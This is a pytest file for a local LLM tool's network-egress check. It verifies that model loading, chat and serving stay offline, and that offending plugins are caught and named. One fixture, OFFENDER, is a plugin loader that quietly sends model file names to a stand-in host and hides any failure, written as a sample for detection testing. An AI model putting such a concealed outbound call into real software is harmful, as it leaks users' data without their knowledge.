"""`llm-local doctor --egress`: the real doors without a network, and an offender among them."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from llm_local.cli.egress import proof as proving
from llm_local.cli.egress.proof import Attempt, EgressProof, Stage, _find_seal
from llm_local.cli.main import main
from llm_local.plugins import LOADERS
from llm_local.terminal.exit_codes import RUNTIME_FAILURE
from plugin_packages import install

Told = Callable[..., tuple[int, str, str]]

# Asks the network when it is asked whether a model is its own, and hides that it failed.
OFFENDER = """
import urllib.request

class Loader:
    def claims(self, path):
        try:
            urllib.request.urlopen("https://collect.example/?model=" + path.name, timeout=5)
        except OSError:
            pass
        return True

    def load(self, path, spec):
        raise NotImplementedError("no model after all")

LOADER = Loader()
"""


@pytest.fixture
def told(capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Told:
    """Runs a verb in an empty directory; gives back exit code, stdout, stderr."""
    (tmp_path / "cwd").mkdir()
    monkeypatch.chdir(tmp_path / "cwd")
    monkeypatch.setenv("OMP_NUM_THREADS", "1")

    def run(*words: str) -> tuple[int, str, str]:
        code = main(list(words))
        return code, *capfd.readouterr()

    return run


def proof(*stages: Stage, why_not: str = "", seen: bool = True) -> EgressProof:
    attempts = (Attempt("connect to", "192.0.2.1 port 80", "x"),) if seen else ()
    return EgressProof(stages, why_not, Stage("control", attempts, (), 0, ()))


def test_a_fresh_machine_with_the_starter_asks_nobody(told: Told) -> None:
    code, out, err = told("doctor", "--egress", "--json")
    assert (code, err) == (0, "")
    shown = json.loads(out)
    assert shown["holds"] and shown["watch_works"]
    assert shown["sealed"] is (_find_seal()[1] == "")
    names = [stage["name"] for stage in shown["stages"]]
    assert {"config", "list", "ps", "load starter", "chat with starter", "serve starter"} <= set(names)
    assert all(not stage["attempts"] and not stage["failure"] for stage in shown["stages"])
    if shown["sealed"]:
        assert [stage["unseen"] for stage in shown["stages"]] == [0] * len(names)


def test_a_plug_in_that_asks_the_network_is_caught_and_named(
    told: Told, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    packages = tmp_path / "packages"
    packages.mkdir()
    install(packages, "spy", {LOADERS: {"spy": "spy_loader:LOADER"}}, {"spy_loader": OFFENDER})
    folder = tmp_path / "model"
    folder.mkdir()
    monkeypatch.setenv("PYTHONPATH", str(packages))
    monkeypatch.setenv("PLUGINS", "spy")
    monkeypatch.setattr(
        proving,
        "stage_commands",
        lambda model, verbs: {"load": ["llm_local.cli.egress.trials", "load", model]},
    )
    code, out, err = told("doctor", "--egress", "--model", str(folder))
    assert code == RUNTIME_FAILURE
    assert "1 attempt to leave this machine; look up collect.example, by spy_loader, line 7" in out
    assert err == "error: Something tried to leave this machine, and was denied: load.\n"


def test_a_model_that_is_not_here_is_no_offense(told: Told) -> None:
    code, out, err = told("doctor", "--egress", "--model", "org/unknown")
    assert (code, out) == (5, "") and "org/unknown is not on this machine" in err
    assert told("doctor", "--egress", "--model", "./nowhere")[0] == 3


def test_a_proof_says_how_it_was_made(told: Told, monkeypatch: pytest.MonkeyPatch) -> None:
    quiet = Stage("config", (), (), 0, ())
    local = Attempt("connect to", "127.0.0.1 port 3128", "x, line 1")
    for made, code, said in (
        (proof(quiet), 0, "that has loopback alone"),
        (proof(quiet, why_not="only Linux has network namespaces"), 0, "because only Linux has"),
        (
            proof(Stage("chat", (), (local,), None, ("c++",)), why_not="w"),
            0,
            "could pass on what it was told",
        ),
        (proof(Stage("chat", (), (), None, ("c++",)), why_not="w"), 0, "started c++, unwatched"),
        (proof(quiet, seen=False), 1, "Nothing is proven: an attempt on purpose was not seen"),
        (proof(Stage("chat", (), (), 2, ())), 1, "2 more that the system counted"),
        (proof(Stage("chat", (), (), 0, (), "it ended with code 6: no room")), 1, "code 6: no room"),
        (proof(Stage("chat", (), (), 0, (), "x")), 1, "did not come to its end: chat."),
    ):
        monkeypatch.setattr(proving, "prove", lambda commands, made=made: made)
        got, out, err = told("doctor", "--egress")
        assert (got, said in out) == (code, True), out
        assert err == ("" if code == 0 else f"error: {out.splitlines()[-1].partition('  ')[2].strip()}\n")


def test_settings_that_say_offline_are_told(told: Told, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OFFLINE", "true")
    monkeypatch.setattr(proving, "prove", lambda commands: proof())
    assert "this proves nothing about a run without it" in told("doctor", "--egress")[1]
